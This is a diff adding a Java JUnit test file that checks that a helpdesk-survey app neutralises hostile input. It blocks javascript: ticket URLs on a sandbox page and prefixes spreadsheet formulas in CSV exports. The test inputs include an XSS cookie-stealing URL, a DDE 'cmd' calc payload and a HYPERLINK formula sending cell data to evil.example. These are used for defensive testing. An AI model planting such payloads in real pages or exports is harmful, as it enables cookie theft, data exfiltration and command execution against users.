@@ -1,0 +1,134 @@
+package dev.closeloop.app;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.closeloop.testing.MutableClock;
+import dev.closeloop.testing.TestApp;
+import java.net.URI;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.file.Path;
+import java.time.Instant;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * What a hostile ticket or answer can plant: a {@code javascript:} ticket URL must not become a
+ * link on the sandbox page, and an export opened in a spreadsheet must not run a formula.
+ */
+class LinksAndExportTest {
+  static final ObjectMapper JSON = new ObjectMapper();
+  static final Instant T0 = Instant.parse("2026-11-24T10:00:00Z");
+
+  @TempDir Path dir;
+  final MutableClock clock = new MutableClock(T0);
+  TestApp app;
+
+  @BeforeEach
+  void start() {
+    app =
+        TestApp.start(
+            dir,
+            "survey: { delay: PT0S, quietHours: \"\", weekends: true }\nsandbox: { enabled: true }\n"
+                + "connectors: { freshservice: { secret: fs-token } }",
+            clock);
+  }
+
+  @AfterEach
+  void stop() {
+    app.close();
+  }
+
+  HttpResponse<String> sandbox(String path, String body) {
+    return app.send(
+        HttpRequest.newBuilder(URI.create(app.url("/sandbox/api/" + path)))
+            .header("Content-Type", "application/json")
+            .method(
+                body == null ? "GET" : "POST",
+                body == null
+                    ? HttpRequest.BodyPublishers.noBody()
+                    : HttpRequest.BodyPublishers.ofString(body))
+            .build());
+  }
+
+  String close(String id, String url, String name, String email) {
+    ObjectNode root = JSON.createObjectNode().put("event", "ticket.closed");
+    root.putObject("ticket").put("id", id).put("title", "Printer").put("url", url);
+    root.putObject("requester").put("email", email).put("name", name);
+    return root.toString();
+  }
+
+  /** Freshservice's template payload takes the ticket URL as the helpdesk gives it. */
+  HttpResponse<String> freshservice(String id, String url, String email) {
+    ObjectNode root = JSON.createObjectNode();
+    ObjectNode t = root.putObject("ticket").put("id", id).put("title", "Printer");
+    t.put("url", url).put("status", "Closed");
+    t.putObject("requester").put("email", email).put("name", "Dana");
+    return app.send(
+        HttpRequest.newBuilder(URI.create(app.url("/hooks/tickets/freshservice")))
+            .header("Content-Type", "application/json")
+            .header("X-Closeloop-Token", "fs-token")
+            .POST(HttpRequest.BodyPublishers.ofString(root.toString()))
+            .build());
+  }
+
+  @Test
+  void aJavascriptTicketUrlIsNeverALinkOnTheSandboxPage() {
+    assertThat(freshservice("1", "javascript:alert(document.cookie)", "d@x.org").statusCode())
+        .isEqualTo(202);
+    assertThat(freshservice("2", "JavaScript:alert(1)//https://x", "l@x.org").statusCode())
+        .isEqualTo(202);
+    assertThat(freshservice("3", "https://help.example.com/t/3", "k@x.org").statusCode())
+        .isEqualTo(202);
+    app.tick();
+    app.deliver();
+
+    String page = sandbox("messages", null).body();
+    assertThat(page).contains("d@x.org", "l@x.org", "https://help.example.com/t/3");
+    assertThat(page.toLowerCase()).doesNotContain("javascript:");
+  }
+
+  @Test
+  void exportCellsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
+    app.webhook(close("=cmd|' /C calc'!A0", "https://h.example/1", "@SUM(1+1)", "d@x.org"));
+    app.tick();
+    app.deliver();
+    assertThat(
+            sandbox("click", "{\"user\":\"d@x.org\",\"actionId\":\"cl:s:1:rate:1\"}").statusCode())
+        .isEqualTo(200);
+    app.deliver();
+    String comment = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click me\")";
+    assertThat(
+            sandbox(
+                    "type",
+                    JSON.createObjectNode().put("user", "d@x.org").put("text", comment).toString())
+                .statusCode())
+        .isEqualTo(200);
+
+    String csv = app.admin("GET", "/admin/export?format=csv", null).body();
+
+    assertThat(csv).contains("'=HYPERLINK(").contains("'@SUM(1+1)").contains("'=cmd|");
+    for (String line : csv.split("\n")) {
+      for (String cell : line.split(",")) {
+        String c = cell.startsWith("\"") ? cell.substring(1) : cell;
+        assertThat(c).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("+");
+      }
+    }
+    // JSON keeps the exact text: only spreadsheets read formulas
+    assertThat(app.admin("GET", "/admin/export?format=json", null).body())
+        .contains("\"comment\" : \"=HYPERLINK(");
+  }
+
+  @Test
+  void everyFormulaTriggerIsNeutralisedAndOrdinaryTextIsKept() {
+    for (String t : new String[] {"=1+1", "+1", "-1+2", "@A1", "\tx", "\rx"}) {
+      assertThat(AdminOps.spreadsheetSafe(t)).isEqualTo("'" + t);
+    }
+    assertThat(AdminOps.spreadsheetSafe("It's fine = ok")).isEqualTo("It's fine = ok");
+    assertThat(AdminOps.spreadsheetSafe("")).isEqualTo("");
+  }
+}
